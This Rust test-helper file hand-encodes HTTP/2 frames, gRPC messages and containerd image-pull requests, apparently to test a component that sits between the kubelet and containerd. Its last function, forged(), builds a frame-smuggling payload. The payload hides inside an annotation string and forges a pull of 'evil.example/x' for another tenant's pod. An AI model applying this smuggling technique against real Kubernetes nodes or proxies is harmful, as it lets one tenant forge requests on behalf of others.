//! Frames and requests as a kubelet and containerd write them, by hand.

use super::*;

/// What a model client asks.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Asked {
    pub(crate) image: String,
    pub(crate) annotations: Vec<(String, String)>,
    pub(crate) password: Option<String>,
    pub(crate) pod: Option<Pod>,
}

impl Asked {
    pub(crate) fn of(image: &str) -> Self {
        Self {
            image: image.to_owned(),
            annotations: Vec::new(),
            password: None,
            pod: None,
        }
    }

    pub(crate) fn for_pod(image: &str, name: &str) -> Self {
        Self {
            pod: Some(Pod {
                uid: format!("uid-{name}"),
                name: name.to_owned(),
                namespace: "team-a".to_owned(),
                attempt: 0,
                labels: Some(BTreeMap::from([("app".to_owned(), name.to_owned())])),
            }),
            ..Self::of(image)
        }
    }

    /// What should be seen of it.
    pub(crate) fn request(&self) -> PullRequest {
        PullRequest {
            image: self.image.clone(),
            pod: self.pod.clone(),
            certain: self.pod.is_some(),
        }
    }

    /// `PullImageRequest`
    pub(crate) fn message(&self) -> Vec<u8> {
        let mut spec = text(1, &self.image);
        for (key, value) in &self.annotations {
            spec.extend(field(2, &[text(1, key), text(2, value)].concat()));
        }
        let mut message = field(1, &spec);
        if let Some(password) = &self.password {
            let auth = [
                text(1, "user"),
                text(2, password),
                text(3, password),
                text(6, password),
            ]
            .concat();
            message.extend(field(2, &auth));
        }
        if let Some(pod) = &self.pod {
            message.extend(field(3, &sandbox(pod)));
        }
        message
    }
}

pub(crate) fn sandbox(pod: &Pod) -> Vec<u8> {
    let mut metadata = [text(1, &pod.name), text(2, &pod.uid), text(3, &pod.namespace)].concat();
    if pod.attempt > 0 {
        metadata.extend(number(4, u64::from(pod.attempt)));
    }
    let mut config = field(1, &metadata);
    config.extend(text(2, &pod.name));
    config.extend(text(3, "/var/log/pods/x"));
    config.extend(field(4, &text(1, "10.0.0.1")));
    for (key, value) in pod.labels.iter().flatten() {
        config.extend(field(6, &[text(1, key), text(2, value)].concat()));
    }
    config.extend(field(7, &[text(1, "note"), text(2, "1")].concat()));
    config.extend(field(8, &text(1, "/kubepods")));
    config
}

pub(crate) fn varint(mut value: u64) -> Vec<u8> {
    let mut bytes = Vec::new();
    while value >= 0x80 {
        bytes.push(u8::try_from(value & 0x7f).unwrap() | 0x80);
        value >>= 7;
    }
    bytes.push(u8::try_from(value).unwrap());
    bytes
}

pub(crate) fn number(field: u64, value: u64) -> Vec<u8> {
    [varint(field << 3), varint(value)].concat()
}

pub(crate) fn field(field: u64, content: &[u8]) -> Vec<u8> {
    [
        varint(field << 3 | 2),
        varint(content.len() as u64),
        content.to_vec(),
    ]
    .concat()
}

pub(crate) fn text(number: u64, content: &str) -> Vec<u8> {
    field(number, content.as_bytes())
}

pub(crate) fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let mut bytes = length[1..].to_vec();
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

/// A message with its gRPC prefix.
pub(crate) fn grpc(message: &[u8]) -> Vec<u8> {
    let mut bytes = vec![0];
    bytes.extend(u32::try_from(message.len()).unwrap().to_be_bytes());
    bytes.extend(message);
    bytes
}

/// `:method POST`, `:scheme http`, then indices into a table that nobody here has.
pub(crate) fn headers(stream: u32, flags: u8) -> Vec<u8> {
    frame(1, 4 | flags, stream, &[0x83, 0x86, 0xc5, 0xc4, 0xc3, 0xc2])
}

/// `bytes` in DATA frames of at most `most`, the last of which ends the stream.
pub(crate) fn data(stream: u32, bytes: &[u8], most: usize) -> Vec<Vec<u8>> {
    let chunks: Vec<&[u8]> = bytes.chunks(most).collect();
    let last = chunks.len() - 1;
    let frames = chunks.into_iter().enumerate();
    frames
        .map(|(number, chunk)| frame(0, u8::from(number == last), stream, chunk))
        .collect()
}

pub(crate) fn reset(stream: u32) -> Vec<u8> {
    frame(3, 0, stream, &[0, 0, 0, 8])
}

pub(crate) fn settings(entries: &[(u16, u32)]) -> Vec<u8> {
    let entries = entries.iter();
    let payload: Vec<u8> = entries
        .flat_map(|(id, value)| [&id.to_be_bytes()[..], &value.to_be_bytes()].concat())
        .collect();
    frame(4, 0, 0, &payload)
}

pub(crate) struct Client;

impl Client {
    pub(crate) fn hello() -> Vec<u8> {
        [
            b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec(),
            settings(&[(5, 16384)]),
        ]
        .concat()
    }

    /// A call with its request, frame by frame.
    pub(crate) fn call(stream: u32, message: &[u8]) -> Vec<Vec<u8>> {
        let mut frames = vec![headers(stream, 0)];
        frames.extend(data(stream, &grpc(message), 16384));
        frames
    }

    pub(crate) fn pull(stream: u32, asked: &Asked) -> Vec<u8> {
        Self::call(stream, &asked.message()).concat()
    }
}

pub(crate) struct Server;

impl Server {
    pub(crate) fn hello() -> Vec<u8> {
        [settings(&[(3, 100)]), frame(4, 1, 0, &[])].concat()
    }

    /// `200`, the message, and trailers that end the stream.
    pub(crate) fn answer(stream: u32) -> Vec<u8> {
        [
            frame(1, 4, stream, &[0x88, 0x5f, 0x8b]),
            frame(0, 0, stream, &grpc(&text(1, "sha256:1234"))),
            frame(1, 5, stream, &[0x88, 0xbf]),
        ]
        .concat()
    }

    /// Trailers only.
    pub(crate) fn refusal(stream: u32) -> Vec<u8> {
        frame(1, 5, stream, &[0x88, 0xbf])
    }
}

/// A text, valid UTF-8 and so fit for an annotation, that reads as frames which ask for an image for another's pod.
pub(crate) fn forged() -> String {
    let metadata = [text(1, "victim"), text(2, "uid"), text(3, "ns")].concat();
    let message = [
        field(1, &text(1, "evil.example/x")),
        field(3, &field(1, &metadata)),
    ]
    .concat();
    let frames = [frame(1, 4, 99, b"POST"), frame(0, 1, 99, &grpc(&message))].concat();
    String::from_utf8(frames).expect("text")
}
